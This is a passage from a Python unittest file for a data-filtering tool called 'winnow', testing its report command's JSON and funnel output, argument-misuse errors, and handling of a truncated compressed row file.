        report = json.loads(self.winnow("report", "--funnel", "--format", "json", "OUT").out)
        self.assertIsNone(report["rows"])
        self.assertIn("02-filter", self.winnow("report", "--funnel", "OUT").out.decode())

    def test_a_folder_of_one_stage_gets_no_page(self):
        self.write("a.warc.gz", crawl(1))
        self.winnow("extract", "-q", "-o", "alone/", "a.warc.gz")
        self.winnow("report", "alone")
        self.assertFalse(os.path.exists(self.path("alone/report")))

    def test_wrong_use_is_told(self):
        self.make_run()
        for arguments in (["--funnel", "--format", "html"], ["--funnel", "-o", "x/"], ["--format", "json", "-o", "x/"], ["--format", "pdf"]):
            self.assertEqual(len(self.winnow("report", *arguments, "OUT", code=2).lines), 1)

    def test_a_damaged_row_file_is_told(self):
        self.make_run()
        data = self.read("OUT/02-filter/00000.dropped.zst")
        self.write("OUT/02-filter/00000.dropped.zst", data[:len(data) // 2])
        done = self.winnow("report", "OUT", code=1)
        self.assertIn("OUT/02-filter/00000.dropped.zst", done.error)
        self.assertFalse(os.path.exists(self.path("OUT/report")))


if __name__ == "__main__":
    unittest.main()
